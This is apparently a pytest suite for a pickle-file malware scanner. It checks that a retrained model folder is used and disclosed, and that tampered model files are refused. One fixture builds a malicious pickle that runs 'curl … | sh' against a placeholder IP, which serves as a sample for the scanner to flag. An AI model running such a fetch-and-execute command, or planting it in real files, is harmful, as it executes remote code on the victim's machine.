"""A model that was trained on one's own files is put to use by its folder, and checked like the one that ships."""

from __future__ import annotations

import json
import os
import pickle
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from picklegate.judging.model_files import digest_of

DATA = Path(__file__).parents[2] / "src" / "picklegate" / "data"


def _scan(folder: Path, file: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "picklegate", "scan", "--format", "json", str(file)],
        env={**os.environ, "PICKLEGATE_MODEL": str(folder)},
        capture_output=True,
        text=True,
        check=False,
    )


@pytest.fixture
def file(tmp_path: Path) -> Path:
    """A file that the model has to judge."""
    path = tmp_path / "model.pkl"
    path.write_bytes(pickle.dumps(ValueError("x")))
    return path


def test_a_folder_is_used(tmp_path: Path, file: Path) -> None:
    """With its thresholds raised and its card kept true, the copy's model lets pass what the shipped one flags."""
    own = tmp_path / "own"
    shutil.copytree(DATA, own, symlinks=True)
    file.write_bytes(b"cmy_kit\nRunShell\n(S'curl http://198.51.100.7/x | sh'\ntR.")
    assert _scan(DATA, file).returncode == 1
    card = json.loads((own / "card.json").read_text("utf-8"))
    card |= {"review": 2.0, "block": 2.0}
    card["sha256"]["card.json"] = digest_of(card)
    (own / "card.json").write_text(json.dumps(card), "utf-8")
    done = _scan(own, file)
    assert done.returncode == 0
    assert done.stderr.count("PICKLEGATE_MODEL replaces the model by the one in") == 1
    made_by = json.loads(done.stdout)["context"]["made_by"]
    assert made_by["model"] == {
        "version": card["version"],
        "digest": card["sha256"]["card.json"],
        "folder": str(own),
    }
    assert "PICKLEGATE_MODEL replaces the model" in made_by["laxer"][0]


def test_an_altered_card_is_refused(tmp_path: Path, file: Path) -> None:
    """Thresholds that somebody has raised in the card alone are no model."""
    own = tmp_path / "own"
    shutil.copytree(DATA, own, symlinks=True)
    card = json.loads((own / "card.json").read_text("utf-8"))
    (own / "card.json").write_text(json.dumps({**card, "review": 2.0, "block": 2.0}), "utf-8")
    done = _scan(own, file)
    assert done.returncode == 2
    assert "card.json is not what training wrote" in done.stderr


@pytest.mark.parametrize("name", ["model.json", "vocabulary.json", "novelty.json"])
def test_an_altered_model_is_refused(tmp_path: Path, file: Path, name: str) -> None:
    """A file that is not what the card says is one clear sentence and exit code 2, not a verdict."""
    own = tmp_path / "own"
    shutil.copytree(DATA, own, symlinks=True)
    (own / name).write_bytes((own / name).read_bytes() + b" ")
    done = _scan(own, file)
    assert done.returncode == 2
    assert f"{name} is not what its card says" in done.stderr
    assert "Traceback" not in done.stderr


def test_an_empty_folder_is_refused(tmp_path: Path, file: Path) -> None:
    """A folder without a model says what to do."""
    done = _scan(tmp_path, file)
    assert done.returncode == 2
    assert "set PICKLEGATE_MODEL to a folder that training wrote" in done.stderr
    assert "Traceback" not in done.stderr
